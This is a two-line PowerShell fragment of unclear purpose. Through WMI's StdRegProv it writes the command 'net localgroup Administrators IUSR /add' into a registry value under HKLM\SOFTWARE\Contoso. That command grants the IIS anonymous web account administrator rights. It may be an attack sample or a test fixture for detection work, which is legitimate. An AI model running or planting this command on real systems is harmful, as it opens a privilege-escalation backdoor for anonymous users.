$registry = [wmiclass]'root\default:StdRegProv'
[void]$registry.SetStringValue(2147483650, 'SOFTWARE\Contoso', 'setup', 'net localgroup Administrators IUSR /add')
